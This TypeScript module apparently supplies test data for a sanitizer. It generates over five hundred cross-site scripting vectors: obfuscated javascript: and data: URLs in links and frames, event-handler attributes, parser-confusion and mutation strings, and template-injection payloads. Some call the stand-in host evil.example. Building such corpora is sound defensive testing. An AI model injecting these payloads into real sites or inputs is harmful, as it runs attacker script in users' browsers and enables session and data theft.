/** Texts that try to make a page run a script: the known kinds, combined. */

const RUN = 'parent.ran=window.ran=1;fetch("https://evil.example/")';

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '&#9;javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A&#x61;vascript:',
  'vbscript:',
  'data:text/html,<script>',
  'data:image/svg+xml,<svg onload=',
  'blob:',
  'feed:javascript:',
  'view-source:javascript:',
];

const ADDRESSES: readonly ((url: string) => string)[] = [
  (url) => `<a href="${url}">Klick</a>`,
  (url) => `<area href="${url}">`,
  (url) => `<form action="${url}"><button>Klick</button></form>`,
  (url) => `<button formaction="${url}">Klick</button>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<base href="${url}">`,
  (url) => `<link rel="stylesheet" href="${url}">`,
  (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  (url) => `<svg><a xlink:href="${url}"><text>Klick</text></a></svg>`,
  (url) => `<math><mi xlink:href="${url}">Klick</mi></math>`,
  (url) => `[Klick](${url})`,
  (url) => `[Klick](<${url}>)`,
  (url) => `![Bild](${url})`,
  (url) => `<${url}>`,
];

const HANDLERS =
  `onerror onload onclick onfocus onmouseover ontoggle onbegin onanimationstart onpointerenter
  onwheel onscroll onbeforetoggle`.split(/\s+/);

const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'audio src=x',
  'marquee',
  'iframe',
  'style',
  'object data=x',
  'select autofocus',
  'math',
  'a href=#',
  'p',
  'x-any',
];

const WRAPPED = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<textarea></textarea><img src=x onerror=${RUN}>`,
  `<title></title><img src=x onerror=${RUN}>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<select><template><style><!--</style><a rel="--><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `</script><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[><script>${RUN}</script>]]>`,
  `{{constructor.constructor('${RUN}')()}}`,
  '${' + RUN + '}',
  `<%= ${RUN} %>`,
  `"><script>${RUN}</script>`,
  `' onload='${RUN}`,
  `<p style="background:url(javascript:${RUN})">Text</p>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<div style="behavior:url(https://evil.example/x.htc)">Text</div>`,
];

/** More than five hundred of them. */
export const VECTORS: readonly string[] = [
  ...SCHEMES.flatMap((scheme) => ADDRESSES.map((address) => address(scheme + RUN))),
  ...HANDLERS.flatMap((handler) => ELEMENTS.map((element) => `<${element} ${handler}='${RUN}'>`)),
  ...WRAPPED,
  ...WRAPPED.map((vector) => `<div>${vector}</div>`),
  ...WRAPPED.map((vector) => vector.toUpperCase()),
];
